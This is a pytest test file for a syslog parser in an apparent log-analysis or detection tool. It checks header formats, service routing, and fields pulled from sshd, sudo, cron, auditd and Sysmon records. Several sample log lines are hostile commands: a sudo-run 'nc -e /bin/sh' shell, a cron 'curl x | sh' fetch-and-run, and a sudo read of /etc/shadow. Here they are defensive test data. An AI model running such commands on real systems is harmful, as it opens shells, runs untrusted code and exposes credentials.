"""Syslog: headers in every form, services, what messages say, and records that it carries."""

from __future__ import annotations

import pytest
from reads import fields, read

from kazami.sources import clock, syslog

MODIFIED = clock.parse("2020-11-30T00:00:00Z")
AT = "2020-11-22T05:52:59+00:00"


@pytest.mark.parametrize(
    ("line", "time", "expected"),
    [
        (
            "Nov 22 05:52:59 web01 sshd[812]: Server listening on 0.0.0.0",
            AT,
            {"hostname": "web01", "program": "sshd", "pid": "812", "message": "Server listening on 0.0.0.0"},
        ),
        (
            "<38>Nov 22 05:52:59 web01 sshd[812]: hello: world",
            AT,
            {"facility": "auth", "severity": "info", "message": "hello: world", "program": "sshd"},
        ),
        (
            "<0>Nov  2 05:52:59 h kernel: panic",
            "2020-11-02T05:52:59+00:00",
            {"facility": "kern", "severity": "emerg"},
        ),
        ("<999>Nov 22 05:52:59 h x: y", AT, {"message": "y", "facility": None}),
        ("Nov 22 05:52:59 web01 last message repeated 2 times", AT, {"program": None, "hostname": "web01"}),
        ("Nov 22 05:52:59 fe80::1 x: y", AT, {"hostname": "fe80::1", "program": "x"}),
        (
            "Nov 22 2019 05:52:59 asa %ASA-6-302013: Built",
            "2019-11-22T05:52:59+00:00",
            {"program": "%ASA-6-302013"},
        ),
        ("Nov 22 05:52:59.123456 h x[1]: y", "2020-11-22T05:52:59.123456+00:00", {"pid": "1"}),
        ("Dec 22 05:52:59 h x: y", "2019-12-22T05:52:59+00:00", {"message": "y"}),
        ("Nov 22 05:52:59 h /usr/sbin/cron[1]: y", AT, {"program": "/usr/sbin/cron", "pid": "1"}),
        (
            "2020-11-22T05:52:59.5Z h x[1]: y",
            "2020-11-22T05:52:59.500000+00:00",
            {"program": "x", "pid": "1"},
        ),
        ("2020-11-22T14:52:59+0900 h x[1]: y", AT, {"hostname": "h", "message": "y"}),
        ("2020-11-22T14:52:59.123456+09:00 h x: y", "2020-11-22T05:52:59.123456+00:00", {"program": "x"}),
        ("Sun 2020-11-22 05:52:59 UTC h x[1]: y", AT, {"program": "x", "pid": "1"}),
        (
            '<165>1 2020-11-22T05:52:59.003Z mymachine evntslog 12 ID47 [a@1 iut="3" e="\\"]x"][b@2] \ufeffAn event',
            "2020-11-22T05:52:59.003000+00:00",
            {
                "facility": "local4",
                "severity": "notice",
                "program": "evntslog",
                "pid": "12",
                "msgid": "ID47",
                "structured_data": '[a@1 iut="3" e="\\"]x"][b@2]',
                "message": "An event",
            },
        ),
        (
            "<34>1 2020-11-22T05:52:59Z - - - - - nothing known",
            AT,
            {"hostname": None, "program": None, "pid": None, "message": "nothing known"},
        ),
        ("<34>1 - h p - - -", None, {"hostname": "h", "program": "p", "message": ""}),
        (
            'Sun Nov 22 05:52:59 2020 [pid 7] [bob] FAIL LOGIN: Client "10.0.0.1"',
            AT,
            {"program": "vsftpd", "pid": "7", "Action": "FAIL LOGIN", "User": "bob", "SourceIp": "10.0.0.1"},
        ),
        (
            "Sun Nov 22 05:52:59 2020 -> /tmp/x: Win.Trojan.A-1 FOUND",
            AT,
            {"program": "clamd", "message": "/tmp/x: Win.Trojan.A-1 FOUND"},
        ),
    ],
)
def test_a_line_in_fields(line: str, time: str | None, expected: dict[str, str | None]) -> None:
    (event,) = read(syslog, line + "\n", modified=MODIFIED).own
    found = fields(event)
    assert {name: found.get(name) for name in expected} == expected
    assert (event["time"].isoformat() if "time" in event else None) == time
    assert event["raw"] == line
    assert event.get("host") == found.get("hostname")


@pytest.mark.parametrize(
    ("header", "table", "services"),
    [
        ("h sshd[1]", "sshd", {"sshd", "syslog", "auth"}),
        ("h CRON[1]", "cron", {"cron", "syslog"}),
        ("h /usr/sbin/cron[1]", "cron", {"cron", "syslog"}),
        ("h sudo", "sudo", {"sudo", "syslog", "auth"}),
        ("h useradd[2]", "syslog", {"syslog", "auth"}),
        ("h named[2]", "named", {"named", "syslog"}),
        ("h clamd[2]", "clamav", {"clamav", "syslog"}),
        ("h guacd[2]", "guacamole", {"guacamole", "syslog"}),
        ("h myapp[2]", "syslog", {"syslog"}),
    ],
)
def test_services_by_program(header: str, table: str, services: set[str]) -> None:
    (event,) = read(syslog, f"Nov 22 05:52:59 {header}: text").own
    sources = event["#route"].sources
    assert event["#table"] == table
    assert {s.service for s in sources} == services
    assert {(s.product, s.category) for s in sources} == {("linux", None)}


@pytest.mark.parametrize(("priority", "services"), [(86, {"syslog", "auth"}), (78, {"cron", "syslog"})])
def test_services_by_facility(priority: int, services: set[str]) -> None:
    (event,) = read(syslog, f"<{priority}>Nov 22 05:52:59 h other: text").own
    assert {s.service for s in event["#route"].sources} == services


@pytest.mark.parametrize(
    ("program", "message", "expected"),
    [
        (
            "sshd",
            "Accepted publickey for root from 10.0.0.1 port 5000 ssh2: RSA SHA256:x",
            {
                "Action": "Accepted",
                "AuthMethod": "publickey",
                "User": "root",
                "SourceIp": "10.0.0.1",
                "SourcePort": "5000",
            },
        ),
        (
            "sshd",
            "Failed password for invalid user a from b from ::1 port 5 ssh2",
            {"Action": "Failed", "User": "a from b", "SourceIp": "::1"},
        ),
        ("sshd", "Invalid user oracle from 10.0.0.1 port 1", {"User": "oracle", "SourceIp": "10.0.0.1"}),
        (
            "sshd",
            "Connection closed by invalid user x 10.0.0.1 port 1 [preauth]",
            {"User": "x", "SourceIp": "10.0.0.1"},
        ),
        ("sshd", "Connection closed by 10.0.0.1 port 1", {"SourceIp": "10.0.0.1", "User": None}),
        ("sshd", "Disconnected from user bob 10.0.0.1 port 1", {"User": "bob"}),
        (
            "sshd",
            "Received disconnect from 10.0.0.1 port 1:11: bye",
            {"SourceIp": "10.0.0.1", "SourcePort": "1"},
        ),
        (
            "sshd",
            "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
            {"Action": "session opened", "User": "root", "PamService": "sshd"},
        ),
        (
            "sshd",
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.0.0.1  user=root",
            {"Action": "authentication failure", "SourceIp": "10.0.0.1", "User": "root"},
        ),
        (
            "sudo",
            "     bob : TTY=pts/0 ; PWD=/home/b ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
            {
                "User": "bob",
                "TargetUser": "root",
                "CommandLine": "/usr/bin/cat /etc/shadow",
                "Image": "/usr/bin/cat",
            },
        ),
        (
            "sudo",
            "bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
            {"Reason": "user NOT in sudoers", "User": "bob"},
        ),
        ("su", "(to root) bob on pts/0", {"User": "bob", "TargetUser": "root"}),
        ("su", "FAILED su for root by bob", {"Action": "FAILED", "TargetUser": "root"}),
        (
            "CRON",
            "(root) CMD (  /bin/x | sh)",
            {"User": "root", "Action": "CMD", "CommandLine": "  /bin/x | sh"},
        ),
        ("crontab", "(bob) REPLACE (bob)", {"User": "bob", "Action": "REPLACE", "CommandLine": None}),
        ("useradd", "new user: name=eve, UID=0, GID=0, home=/", {"TargetUser": "eve", "Uid": "0"}),
        ("systemd-logind", "New session 12 of user bob.", {"LogonId": "12", "User": "bob"}),
        (
            "named",
            "client @0x7f 10.0.0.1#53 (x.test): query 'x.test/AXFR/IN' denied",
            {"SourceIp": "10.0.0.1", "SourcePort": "53", "Query": "x.test"},
        ),
        ("myapp", "Accepted password for root from 10.0.0.1 port 5", {"User": None}),
    ],
)
def test_what_messages_say(program: str, message: str, expected: dict[str, str | None]) -> None:
    (event,) = read(syslog, f"Nov 22 05:52:59 h {program}[1]: {message}").own
    assert {name: event.get(name) for name in expected} == expected
    assert event["message"] == message
    assert event.get("user") == (event.get("User") or event.get("TargetUser"))


def test_a_command_that_ran_by_sudo_or_cron_is_a_process() -> None:
    lines = """\
Nov 22 05:52:59 h sudo: bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh
Nov 22 05:52:59 h sudo: bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id
Nov 22 05:52:59 h CRON[3]: (www) CMD (curl x | sh)
"""
    first, second = read(syslog, lines).of("process_creation")
    assert fields(first) == {
        "Image": "/usr/bin/nc",
        "CommandLine": "/usr/bin/nc -e /bin/sh",
        "CurrentDirectory": "/tmp",
        "User": "root",
        "ParentImage": "/usr/bin/sudo",
    }
    assert (first["user"], first["host"]) == ("bob", "h")
    assert (second["Image"], second["CommandLine"], second["User"]) == ("/bin/sh", "curl x | sh", "www")


@pytest.mark.parametrize(
    "message",
    [
        'kernel: [12.5] audit: type=1326 audit(1604996384.965:7): auid=1000 uid=33 ses=2 comm="x"',
        'audispd: node=web type=SECCOMP msg=audit(1604996384.965:7): auid=1000 uid=33 ses=2 comm="x"',
        'audit[812]: type=SECCOMP msg=audit(1604996384.965:7): auid=1000 uid=33 ses=2 comm="x"',
    ],
)
def test_audit_records_are_records_of_auditd(message: str) -> None:
    line = f"Nov 22 05:52:59 h {message}"
    (event,) = read(syslog, line).own
    assert (event["#table"], event["type"], event["comm"]) == ("auditd", "SECCOMP", "x")
    assert event["host"] == ("web" if "node=" in message else "h")
    assert event["raw"] == line
    assert event["time"].isoformat().startswith("2020-11-10T08:19:44.965")


def test_what_only_looks_like_a_forwarded_record_stays_a_line() -> None:
    (event,) = read(syslog, "Nov 22 05:52:59 h kernel: [1.0] audit: backlog limit exceeded").own
    assert event["#table"] == "syslog"


SYSMON = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>%d</EventID>'
    '<Version>5</Version><TimeCreated SystemTime="2020-11-22T05:52:58.123456000Z"/><EventRecordID>7</EventRecordID>'
    '<Execution ProcessID="4" ThreadID="5"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer>'
    '<Security UserId="0"/></System><EventData>%s</EventData></Event>'
)


@pytest.mark.parametrize(
    ("number", "table", "data"),
    [
        (1, "process_creation", {"Image": "/usr/bin/id", "CommandLine": "id -u", "User": "root"}),
        (3, "network_connection", {"Image": "/usr/bin/nc", "DestinationIp": "10.0.0.1", "Initiated": "true"}),
        (11, "file_event", {"Image": "/bin/cp", "TargetFilename": "/etc/cron.d/x"}),
    ],
)
def test_sysmon_for_linux(number: int, table: str, data: dict[str, str]) -> None:
    body = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    line = f"Nov 22 05:52:59 web01 sysmon: {SYSMON % (number, body)}"
    (event,) = read(syslog, line).own
    assert event["#table"] == table
    assert all(s.product == "linux" for s in event["#route"].sources)
    assert table in {s.category for s in event["#route"].sources}
    assert {name: event[name] for name in data} == data
    assert (event["host"], event["time"].isoformat()) == ("web01", "2020-11-22T05:52:58.123456+00:00")
    assert event["raw"] == line


def test_a_sysmon_event_that_is_no_xml_stays_a_line() -> None:
    found = read(syslog, "Nov 22 05:52:59 web01 sysmon: <Event><Sys")
    assert [e["message"] for e in found.own] == ["<Event><Sys"]
    assert "cut or broken" in found.reasons[0]


def test_lines_without_a_header_go_on_with_the_line_before() -> None:
    found = read(syslog, "stray\nNov 22 05:52:59 h java[1]: boom\n\tat x.y\n\n", modified=MODIFIED)
    assert found.reasons == ["line 1: no header of syslog, and no line before it"]
    assert [(e["record"], e["message"], e["program"]) for e in found.own] == [
        (2, "boom", "java"),
        (3, "\tat x.y", "java"),
    ]
    assert found.own[0]["time"] == found.own[1]["time"]


def test_equal_lines_are_different_events_and_copies_of_a_file_the_same() -> None:
    line = "Nov 22 05:52:59 h x: y\n"
    one, two = read(syslog, line * 2), read(syslog, line * 2)
    assert one.own[0]["event_uid"] != one.own[1]["event_uid"]
    assert [e["event_uid"] for e in one.own] == [e["event_uid"] for e in two.own]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-8"])
def test_encodings_and_zeros(encoding: str) -> None:
    data = "Nov 22 05:52:59 h x: é\0\r\n".encode(encoding) + "\0\0\0".encode(
        "utf-16-le" if encoding == "utf-16" else "utf-8"
    )
    found = read(syslog, data)
    assert [e["message"] for e in found.own] == ["é"]


@pytest.mark.parametrize(
    ("head", "sure"),
    [
        ("Nov 22 05:52:59 h x: y\n", True),
        ("<34>1 2020-11-22T05:52:59Z - - - - - x", True),
        ("<Event xmlns='http'>", False),
        ("stray\nNov 22 05:52:59 h x: y\nNov 22 05:52:59 h x: y\n", True),
        ("a\nb\nc\nNov 22 05:52:59 h x: y\n", False),
        ('{"time": "Nov 22 05:52:59 h x: y"}', False),
        ("Time,Host,Message\n2020-11-22T05:52:59Z,h,x: y\n", False),
        ("2020-11-22 05:52:59 INFO started\n", False),
        ('10.0.0.1 - - [22/Nov/2020:05:52:59 +0000] "GET / HTTP/1.1" 200 1\n', False),
        ("", False),
        ("\0\0\0", False),
    ],
)
def test_confidence(head: str, sure: bool) -> None:
    assert (syslog.confidence("x", head.encode()) > 0.5) is sure
    assert (syslog.confidence("x", head.encode("utf-16")) > 0.5) is sure


def test_patterns_take_bounded_time_on_any_message() -> None:
    """Were one of them to backtrack without bound, this would not end."""
    for part in ("a ", "(", "; ", " : ", "=", "from ", "invalid user ", 'x="', "\\", "[a "):
        for program in ("sshd", "sudo", "su", "cron", "login", "vsftpd", "named", "useradd"):
            read(syslog, f"Nov 22 05:52:59 h {program}: {part * 100_000}")
        read(syslog, f"<34>1 2020-11-22T05:52:59Z h p - - [a {part * 100_000}")
        read(syslog, f"<34>1 2020-11-22T05:52:59Z h p - - [{part * 100_000}]")
